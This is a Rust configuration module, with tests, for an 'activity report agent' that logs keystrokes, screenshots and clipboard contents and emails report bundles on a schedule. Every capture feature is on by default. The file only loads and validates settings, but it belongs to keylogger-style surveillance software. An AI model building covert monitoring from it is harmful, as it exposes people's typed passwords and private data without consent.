//! Configuration for the activity report agent.
//!
//! The configuration is loaded once at startup. Every section carries
//! `#[serde(default)]`, so a partial file is completed with defaults during
//! that single load step and nothing downstream has to deal with missing keys.

use serde::{Deserialize, Serialize};
use std::path::{Path, PathBuf};
use std::time::Duration;
use thiserror::Error;

/// Application directory name used under the platform config/data dirs.
pub const APP_DIR: &str = "activity-report-agent";

/// Minimum salt length accepted by the key derivation function.
pub const MIN_SALT_LEN: usize = 8;

/// Main configuration for the agent.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct Config {
    /// Base name of the keylog; a numeric suffix is added when it already exists
    pub keylog_file: PathBuf,

    /// Directory screenshot providers write into
    pub screenshot_dir: PathBuf,

    /// Append-only clipboard log
    pub clipboard_file: PathBuf,

    /// Where report cycles stage their bundles
    pub report_dir: PathBuf,

    /// Where the local dispatch gateway drops outgoing messages
    pub outbox_dir: PathBuf,

    /// Chord that asks the capture loop to stop, e.g. `ctrl+z`
    pub release_chord: String,

    pub encryption: EncryptionConfig,
    pub email: EmailConfig,
    pub features: FeatureConfig,
    pub schedule: ScheduleConfig,
}

impl Default for Config {
    fn default() -> Self {
        let data_dir = default_data_dir();

        Self {
            keylog_file: data_dir.join("key.txt"),
            screenshot_dir: data_dir.join("screenshots"),
            clipboard_file: data_dir.join("clipboard.txt"),
            report_dir: data_dir.join("reports"),
            outbox_dir: data_dir.join("outbox"),
            release_chord: "ctrl+z".to_string(),
            encryption: EncryptionConfig::default(),
            email: EmailConfig::default(),
            features: FeatureConfig::default(),
            schedule: ScheduleConfig::default(),
        }
    }
}

impl Config {
    /// Load configuration from `path`, or from the default location.
    ///
    /// A missing file yields the defaults; a malformed one is an error.
    pub fn load(path: Option<&Path>) -> Result<Self, ConfigError> {
        let config_path = path
            .map(Path::to_path_buf)
            .unwrap_or_else(Self::config_path);

        if !config_path.exists() {
            return Ok(Self::default());
        }

        let content = std::fs::read_to_string(&config_path)?;
        let config: Config = serde_json::from_str(&content)?;
        config.validate()?;
        Ok(config)
    }

    /// Save configuration to `path`, or to the default location.
    pub fn save(&self, path: Option<&Path>) -> Result<PathBuf, ConfigError> {
        let config_path = path
            .map(Path::to_path_buf)
            .unwrap_or_else(Self::config_path);

        if let Some(parent) = config_path.parent() {
            std::fs::create_dir_all(parent)?;
        }

        let content = serde_json::to_string_pretty(self)?;
        std::fs::write(&config_path, content)?;

        Ok(config_path)
    }

    /// Get the path to the default configuration file.
    pub fn config_path() -> PathBuf {
        dirs::config_dir()
            .unwrap_or_else(|| PathBuf::from("."))
            .join(APP_DIR)
            .join("config.json")
    }

    /// Directory holding the persisted session statistics.
    pub fn data_dir(&self) -> PathBuf {
        self.keylog_file
            .parent()
            .filter(|p| !p.as_os_str().is_empty())
            .map(Path::to_path_buf)
            .unwrap_or_else(|| PathBuf::from("."))
    }

    /// Reject settings the pipeline cannot run with.
    pub fn validate(&self) -> Result<(), ConfigError> {
        if self.schedule.keystroke_threshold == 0 {
            return Err(ConfigError::Invalid(
                "schedule.keystroke_threshold must be at least 1".to_string(),
            ));
        }
        if self.schedule.interval_minutes == 0 {
            return Err(ConfigError::Invalid(
                "schedule.interval_minutes must be at least 1".to_string(),
            ));
        }
        if self.encryption.enabled {
            if self.encryption.password.is_empty() {
                return Err(ConfigError::Invalid(
                    "encryption.password is required when encryption is enabled".to_string(),
                ));
            }
            if self.encryption.salt.len() < MIN_SALT_LEN {
                return Err(ConfigError::Invalid(format!(
                    "encryption.salt must be at least {MIN_SALT_LEN} bytes"
                )));
            }
        }
        Ok(())
    }

    /// Ensure all directories the pipeline writes into exist.
    pub fn ensure_directories(&self) -> Result<(), ConfigError> {
        for file in [&self.keylog_file, &self.clipboard_file] {
            if let Some(parent) = file.parent().filter(|p| !p.as_os_str().is_empty()) {
                std::fs::create_dir_all(parent)?;
            }
        }
        std::fs::create_dir_all(&self.screenshot_dir)?;
        std::fs::create_dir_all(&self.report_dir)?;
        std::fs::create_dir_all(&self.outbox_dir)?;
        Ok(())
    }

    /// A configuration rooted at `dir`, used by `init` and by tests.
    pub fn rooted_at(dir: &Path) -> Self {
        Self {
            keylog_file: dir.join("key.txt"),
            screenshot_dir: dir.join("screenshots"),
            clipboard_file: dir.join("clipboard.txt"),
            report_dir: dir.join("reports"),
            outbox_dir: dir.join("outbox"),
            ..Self::default()
        }
    }
}

fn default_data_dir() -> PathBuf {
    dirs::data_local_dir()
        .unwrap_or_else(|| PathBuf::from("."))
        .join(APP_DIR)
}

/// Artifact encryption settings.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(default)]
pub struct EncryptionConfig {
    pub enabled: bool,
    pub password: String,
    pub salt: String,
}

/// Dispatch settings. `server`, `port`, `user` and `password` are carried
/// for an external transport; the bundled gateway only uses `recipient`.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct EmailConfig {
    pub enabled: bool,
    pub server: String,
    pub port: u16,
    pub user: String,
    pub password: String,
    pub recipient: String,
}

impl Default for EmailConfig {
    fn default() -> Self {
        Self {
            enabled: false,
            server: String::new(),
            port: 587,
            user: String::new(),
            password: String::new(),
            recipient: String::new(),
        }
    }
}

/// Which capture and snapshot components run.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct FeatureConfig {
    pub keylogging: bool,
    pub screenshots: bool,
    pub clipboard_monitoring: bool,
    pub system_info: bool,
}

impl Default for FeatureConfig {
    fn default() -> Self {
        Self {
            keylogging: true,
            screenshots: true,
            clipboard_monitoring: true,
            system_info: true,
        }
    }
}

/// Report cadence and keystroke buffering.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct ScheduleConfig {
    pub interval_minutes: u64,
    pub keystroke_threshold: usize,
}

impl Default for ScheduleConfig {
    fn default() -> Self {
        Self {
            interval_minutes: 30,
            keystroke_threshold: 10,
        }
    }
}

impl ScheduleConfig {
    /// Interval between report cycles.
    pub fn interval(&self) -> Duration {
        Duration::from_secs(self.interval_minutes * 60)
    }
}

/// Configuration errors.
#[derive(Debug, Error)]
pub enum ConfigError {
    #[error("IO error: {0}")]
    Io(#[from] std::io::Error),
    #[error("Parse error: {0}")]
    Parse(#[from] serde_json::Error),
    #[error("Invalid configuration: {0}")]
    Invalid(String),
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_default_config() {
        let config = Config::default();
        assert_eq!(config.schedule.interval(), Duration::from_secs(30 * 60));
        assert_eq!(config.schedule.keystroke_threshold, 10);
        assert!(config.features.keylogging);
        assert!(!config.encryption.enabled);
        assert!(!config.email.enabled);
        assert_eq!(config.release_chord, "ctrl+z");
    }

    #[test]
    fn test_partial_file_fills_defaults() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config.json");
        let partial = r#"{
            "schedule": { "keystroke_threshold": 25 },
            "features": { "screenshots": false }
        }"#;
        std::fs::write(&path, partial).unwrap();

        let config = Config::load(Some(&path)).unwrap();
        assert_eq!(config.schedule.keystroke_threshold, 25);
        assert_eq!(config.schedule.interval_minutes, 30);
        assert!(!config.features.screenshots);
        assert!(config.features.clipboard_monitoring);
        assert_eq!(config.email.port, 587);
    }

    #[test]
    fn test_missing_file_yields_defaults() {
        let dir = tempfile::tempdir().unwrap();
        let config = Config::load(Some(&dir.path().join("absent.json"))).unwrap();
        assert_eq!(config.schedule.keystroke_threshold, 10);
    }

    #[test]
    fn test_save_and_reload() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("nested").join("config.json");

        let mut config = Config::rooted_at(dir.path());
        config.email.recipient = "ops@example.com".to_string();
        config.save(Some(&path)).unwrap();

        let loaded = Config::load(Some(&path)).unwrap();
        assert_eq!(loaded.email.recipient, "ops@example.com");
        assert_eq!(loaded.keylog_file, dir.path().join("key.txt"));
    }

    #[test]
    fn test_validation() {
        let mut config = Config::default();
        assert!(config.validate().is_ok());

        config.schedule.keystroke_threshold = 0;
        assert!(matches!(config.validate(), Err(ConfigError::Invalid(_))));
        config.schedule.keystroke_threshold = 10;

        config.encryption.enabled = true;
        assert!(config.validate().is_err());

        config.encryption.password = "hunter2".to_string();
        config.encryption.salt = "short".to_string();
        assert!(config.validate().is_err());

        config.encryption.salt = "0123456789abcdef".to_string();
        assert!(config.validate().is_ok());
    }

    #[test]
    fn test_malformed_file_is_an_error() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config.json");
        std::fs::write(&path, "{ not json").unwrap();
        assert!(matches!(
            Config::load(Some(&path)),
            Err(ConfigError::Parse(_))
        ));
    }
}
